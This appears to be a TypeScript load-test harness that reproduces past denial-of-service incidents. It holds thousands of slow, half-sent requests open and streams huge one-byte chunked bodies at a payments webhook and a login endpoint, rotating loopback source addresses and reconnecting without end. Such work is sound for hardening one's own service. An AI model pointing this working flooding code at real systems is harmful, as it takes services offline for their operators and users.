// Clients without a credential, from addresses of 127.0.0.0/8: eight times the rates at which each attack once stopped
// a process. Each connection that ends is opened again, so refusing one does not end the attack.
import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

const [url = ''] = process.argv.slice(2)
const { hostname, port } = new URL(url)

const events = 'POST /api/v1/app/payments/providers/sandbox/events'
const signature = 'Sandbox-Signature: t=1,v1=none'
/** 256 half-sent bodies blocked a replica for 300 s. */
const halfSent = 8 * 256
/** Connections are opened at any time within this span, not all at one moment. */
const againWithinMs = 20_000
const dripMs = 60_000
/** Bodies in chunks of one byte within 16 s that ended a process. */
const chunked = [
  { target: events, header: signature, bytes: 850_000, count: 8 * 8 },
  { target: 'POST /api/v1/app/auth/login', header: 'Content-Type: application/json', bytes: 1_000_000, count: 8 * 24 },
]
const windowMs = 16_000

const counts = { halfSent: 0, chunked: 0, refused: 0, megabytes: 0 }
let stopped = false

const open = (index: number) => {
  const localAddress = `127.0.${1 + (Math.floor(index / 64) % 250)}.1`
  const socket = connect({ host: hostname, port: Number(port), localAddress })
  socket.on('error', () => undefined)
  socket.once('data', (text) => {
    if (/^HTTP\/1.1 4/.test(String(text))) counts.refused += 1
  })
  return socket
}

async function holdHalf(index: number): Promise<void> {
  while (!stopped) {
    await delay(Math.random() * againWithinMs)
    counts.halfSent += 1
    const socket = open(index)
    socket.write(`${events} HTTP/1.1\r\nHost: a\r\n${signature}\r\nContent-Length: 9\r\n\r\n1`)
    const drip = setInterval(() => socket.write('1'), dripMs)
    await new Promise((resolve) => socket.once('close', resolve))
    clearInterval(drip)
  }
}

type Chunked = (typeof chunked)[number]

const block = '1\r\na\r\n'.repeat(2_000)

async function sendChunks({ target, header, bytes }: Chunked, index: number): Promise<void> {
  counts.chunked += 1
  const socket = open(index)
  const closed = new Promise((resolve) => socket.once('close', resolve))
  socket.write(`${target} HTTP/1.1\r\nHost: a\r\n${header}\r\nTransfer-Encoding: chunked\r\n\r\n`)
  for (let sent = 0; sent < bytes && !socket.destroyed; sent += 2_000) {
    counts.megabytes += block.length / 1e6
    if (!socket.write(block)) await Promise.race([closed, new Promise((resolve) => socket.once('drain', resolve))])
  }
  socket.end('0\r\n\r\n')
  await closed
}

async function repeatChunks(kind: Chunked): Promise<void> {
  for (let index = 0; !stopped; index++) {
    void sendChunks(kind, index)
    await delay(windowMs / kind.count)
  }
}

process.once('message', () => {
  stopped = true
  process.send?.(counts)
})
for (let index = 0; index < halfSent; index++) void holdHalf(index)
for (const kind of chunked) void repeatChunks(kind)
